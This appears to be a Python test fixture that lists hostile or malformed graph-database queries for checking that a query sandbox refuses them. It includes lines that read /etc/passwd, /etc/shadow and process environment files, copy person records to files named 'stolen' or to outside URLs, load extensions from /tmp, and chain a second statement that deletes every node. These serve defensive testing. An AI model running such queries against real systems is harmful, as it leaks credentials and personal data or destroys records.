"""Queries that mean harm or make no sense, by kind; `{}` is a folder that they would like to write to."""

WRITES = """
CREATE (:Person {person_id: 'x'})
CREATE (:Person)
CREATE (a:Person {person_id: 'x'})-[:LIVES_WITH]->(b:Person {person_id: 'y'})
MATCH (p:Person) CREATE (:Card {card_id: p.person_id})
MATCH (p:Person), (c:Card) CREATE (p)-[:HOLDS]->(c)
MATCH (p:Person) SET p.name = 'x'
MATCH (p:Person) SET p.name = NULL
MATCH (p:Person) SET p.phone = p.id_number, p.name = ''
MATCH ()-[b:BOUGHT_AT]->() SET b.amount = 0
MATCH (s:Settlement) SET s.total_amount = 0 RETURN s
MATCH (p:Person) DELETE p
MATCH (p:Person) DETACH DELETE p
MATCH (p:Person)-[h:HOLDS]->() DELETE h
MATCH ()-[e]->() DELETE e
MATCH (n) DETACH DELETE n
MERGE (p:Person {person_id: 'x'})
MERGE (p:Person {person_id: 'x'}) ON CREATE SET p.name = 'x'
MERGE (p:Person {person_id: 'x'}) ON MATCH SET p.name = 'x'
MATCH (p:Person), (q:Person) MERGE (p)-[:LIVES_WITH]->(q)
MATCH (p:Person) WITH p LIMIT 1 SET p.name = 'x' RETURN p
UNWIND range(1, 10) AS x CREATE (:Person {person_id: 'x'})
MATCH (p:Person) REMOVE p.name
FOREACH (x IN [1] | CREATE (:Person))
MATCH (r:Ring) SET r.level = 'watch'
CREATE (:Ring {ring_id: 'R-9'})
MATCH (p:Person) RETURN p UNION MATCH (q:Person) SET q.name = 'x' RETURN q
COPY Person FROM '/tmp/none.parquet'
COPY HOLDS FROM '/tmp/none.csv'
COPY Person FROM (MATCH (p:Person) RETURN p.person_id)
/* MATCH */ CREATE (:Person {person_id: 'x'})
create (:Person {person_id: 'x'}) // RETURN 1
"""

SCHEMA = """
CREATE NODE TABLE Evil (id STRING PRIMARY KEY)
CREATE NODE TABLE IF NOT EXISTS Person (id STRING PRIMARY KEY)
CREATE REL TABLE EVIL (FROM Person TO Person)
CREATE REL TABLE GROUP EVIL (FROM Person TO Person)
DROP TABLE Person
DROP TABLE IF EXISTS HOLDS
DROP TABLE MEMBER_OF
ALTER TABLE Person ADD evil STRING
ALTER TABLE Person DROP name
ALTER TABLE Person RENAME TO People
ALTER TABLE Person RENAME name TO nom
COMMENT ON TABLE Person IS 'x'
CREATE SEQUENCE evil
DROP SEQUENCE evil
RETURN nextval('evil')
CREATE TYPE evil AS INT64
CREATE MACRO evil(x) AS x + 1
DROP MACRO evil
CREATE INDEX evil FOR (p:Person) ON (p.name)
CREATE CONSTRAINT evil FOR (p:Person) REQUIRE p.name IS UNIQUE
CREATE GRAPH evil
DROP GRAPH evil
CREATE VECTOR INDEX evil ON Person(name)
CALL CREATE_FTS_INDEX('Person', 'evil', ['name'])
CALL DROP_FTS_INDEX('Person', 'evil')
CALL CREATE_VECTOR_INDEX('Person', 'evil', 'name')
CREATE USER evil
CREATE DATABASE evil
DROP DATABASE graph
ANALYZE
"""

FILES = """
COPY (MATCH (p:Person) RETURN p.person_id) TO '{}/stolen.csv'
COPY (MATCH (p:Person) RETURN p.*) TO '{}/stolen.parquet'
COPY (RETURN 1) TO '{}/one.csv' (header=true)
COPY (MATCH (p:Person) RETURN p.person_id) TO '{}/stolen.json'
copy (return 1) to '{}/lower.csv'
/* RETURN */ COPY (RETURN 1) TO '{}/comment.csv'
COPY (RETURN 1) TO '/proc/self/mem'
COPY (RETURN 1) TO '/dev/shm/evil.csv'
COPY (RETURN 1) TO '../evil.csv'
COPY (RETURN 1) TO 'https://example.com/evil.csv'
COPY (RETURN 1) TO 's3://evil/evil.parquet'
PROFILE COPY (RETURN 1) TO '{}/profiled.csv'
EXPLAIN COPY (RETURN 1) TO '{}/explained.csv'
LOAD FROM '/etc/passwd' RETURN *
LOAD FROM '/etc/passwd' (file_format='csv') RETURN *
LOAD FROM '/etc/passwd' (file_format='csv', header=false, delim=':') RETURN *
LOAD WITH HEADERS (line STRING) FROM '/etc/passwd' (file_format='csv') RETURN line
LOAD FROM '/etc/shadow' (file_format='csv') RETURN *
LOAD FROM '/proc/self/environ' (file_format='csv') RETURN *
LOAD FROM '/proc/self/maps' (file_format='csv') RETURN count(*)
LOAD FROM ['/etc/passwd', '/etc/group'] (file_format='csv') RETURN *
LOAD FROM '/etc/*' (file_format='csv') RETURN *
LOAD FROM '{}/*.parquet' RETURN *
LOAD FROM 'https://example.com/x.csv' RETURN *
LOAD FROM 's3://bucket/x.parquet' RETURN *
LOAD FROM 'ftp://example.com/x.csv' RETURN *
LOAD FROM df RETURN *
LOAD FROM sys RETURN *
LOAD FROM 'x.npy' RETURN *
LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row
LOAD CSV WITH HEADERS FROM 'https://example.com/x.csv' AS row RETURN row
CALL READ_CSV_SERIAL('/etc/passwd') RETURN *
CALL READ_PARQUET('{}/x.parquet') RETURN *
CALL READ_PANDAS('x') RETURN *
CALL file_info() RETURN *
CALL disk_info() RETURN *
CALL disk_size_info() RETURN *
CALL bm_info() RETURN *
EXPORT DATABASE '{}/exported'
EXPORT DATABASE '{}/exported' (format='csv')
IMPORT DATABASE '{}/exported'
ATTACH '{}/evil.db' AS evil (dbtype lbug)
ATTACH 'dbname=evil host=localhost' AS pg (dbtype postgres)
ATTACH 'evil.sqlite' AS evil (dbtype sqlite)
DETACH evil
USE evil
CALL apoc.load.json('https://example.com') YIELD value RETURN value
CALL apoc.export.csv.all('{}/all.csv', {{}})
RETURN apoc.cypher.runFirstColumnSingle('CREATE (n)', {{}})
CALL dbms.security.createUser('x', 'y', false)
CALL db.clearQueryCaches()
"""

SYSTEM = """
CHECKPOINT
FORCE CHECKPOINT
BEGIN TRANSACTION
BEGIN TRANSACTION READ ONLY
COMMIT
ROLLBACK
INSTALL httpfs
FORCE INSTALL httpfs
INSTALL json FROM 'http://localhost:9/'
UPDATE httpfs
UNINSTALL httpfs
LOAD httpfs
LOAD EXTENSION httpfs
LOAD EXTENSION '/tmp/evil.lbug_extension'
CALL timeout=0
CALL threads=64
CALL home_directory='/tmp'
CALL file_search_path='/tmp'
CALL progress_bar=true
CALL enable_default_hash_index=false
CALL spill_to_disk=false
CALL checkpoint_threshold=0
CALL auto_checkpoint=true
CALL force_checkpoint_on_close=true
CALL debug_enable_multi_writes=true
CALL clear_warnings()
CALL show_loaded_extensions() RETURN *
CALL _cache_array_column_locally('Person', 'name')
RETURN 1; RETURN 2
RETURN 1; CHECKPOINT
RETURN 1; COPY (RETURN 1) TO '{}/second.csv'
MATCH (p:Person) RETURN p; MATCH (p:Person) DETACH DELETE p
RETURN ';'; CREATE (:Person)
EXPLAIN RETURN 1
PROFILE RETURN 1
EXPLAIN CHECKPOINT
PROFILE CHECKPOINT
"""

BROKEN = """
MATCH
MATCH (
MATCH (p:Person
MATCH (p:Person RETURN p
MATCH (p:Person) RETURN
MATCH (p:Person) RETURN p LIMIT
MATCH (p:Person) RETURN p LIMIT -1
MATCH (p:Person) RETURN p LIMIT 'x'
MATCH (p:Person) RETURN p ORDER
MATCH (p:Person) WHERE RETURN p
MATCH (p:Person) WHERE p.name = RETURN p
MATCH (p:Person)-[:HOLDS->(c:Card) RETURN p
MATCH (p:Person)-[:HOLDS]->(c:Card RETURN p
MATCH (p:Person)->(c:Card) RETURN p
MATCH p:Person RETURN p
MTACH (p:Person) RETURN p
MATCH (p:Person) RETRUN p
MATCH (p:Person) RETURN 'open
MATCH (p:Person) RETURN "open
MATCH (p:Person) RETURN `open
MATCH (p:Person) /* open RETURN p
SELECT * FROM persons
SELECT name FROM persons; DROP TABLE persons
RETURN
RETURN ,
RETURN 1,
RETURN 1 AS
RETURN (1
RETURN [1, 2
RETURN {{a: 1
RETURN 1 +
RETURN 1 ++
RETURN $
RETURN $1x
RETURN 1 AS a, 2 AS
WITH 1 AS x
UNWIND RETURN 1
UNWIND 1 AS RETURN 1
RETURN CASE WHEN 1 THEN
) RETURN 1
'
\\
🐉
中文
MATCH (人:Person) RETURN 人 人
MATCH (p:Persn) RETURN p
MATCH (p:person) RETURN p.nmae
MATCH (p:Person)-[:HOLD]->(c:Card) RETURN p
MATCH (p:Person)-[:HOLDS]->(c:Settlement) RETURN p.nothing
MATCH (p:Person) RETURN p.nam
MATCH (p:Person {{persn_id: 'x'}}) RETURN p
MATCH (p:Person) WHERE q.name = 'x' RETURN p
MATCH (p:Person) RETURN q
MATCH (p:Person) RETURN uper(p.name)
MATCH (p:Person) RETURN cuont(*)
MATCH (p:Person) RETURN count(*, 1)
MATCH (p:Person) RETURN sum(p.name)
MATCH (p:Person) RETURN p.name + 1
MATCH (p:Person) RETURN p.name / 2
MATCH (p:Person) RETURN NOT p.name
MATCH (p:Person) WHERE p.name RETURN p
MATCH (p:Person) WITH count(*) AS n WHERE p.name = 'x' RETURN n
MATCH (p:Person) RETURN count(count(*))
MATCH (p:Person) WHERE count(*) > 1 RETURN p
MATCH (p:Person)-[:LIVES_WITH*1..99]-(q:Person) RETURN q
MATCH (p:Person)-[:LIVES_WITH*-1..2]-(q:Person) RETURN q
MATCH (p:Person)-[:LIVES_WITH*5..2]-(q:Person) RETURN q
MATCH (p:Person) CALL {{ RETURN 1 AS x }} RETURN x
RETURN 1 / 0
RETURN date('nonsense')
RETURN timestamp('2025-13-45')
RETURN CAST('x' AS INT64)
RETURN 9223372036854775807 + 1
RETURN 99999999999999999999999999999999999999999999999999
RETURN [1, 2][0]
RETURN $missing
MATCH (p:Person {{person_id: $missing}}) RETURN p
RETURN error('mine')
RETURN 1 UNION RETURN 1, 2
MATCH (p:Person) RETURN DISTINCT
MATCH (p:Person) MATCH RETURN p
OPTIONAL RETURN 1
"""

# Each asks for far more than the limits of the test allow.
RUNAWAY = """
UNWIND range(1, 1000000000) AS a RETURN sum(a % 7)
UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b RETURN sum(a * b % 7)
MATCH (a:Settlement), (b:Settlement), (c:Settlement) WHERE a.total_amount + b.total_amount > c.total_amount RETURN 1
MATCH (a:Settlement), (b:Settlement), (c:Card) RETURN a.settlement_id + b.settlement_id + c.card_id AS x ORDER BY x
MATCH p = (:Person)-[*1..12]-(:Person) RETURN count(p)
UNWIND range(1, 100000000) AS a RETURN collect(a)
"""


def queries(block: str, folder: object) -> list[str]:
    """The queries of a block, one a line."""
    return [
        line.replace("{}", str(folder)).replace("{{", "{").replace("}}", "}") for line in block.strip().splitlines()
    ]
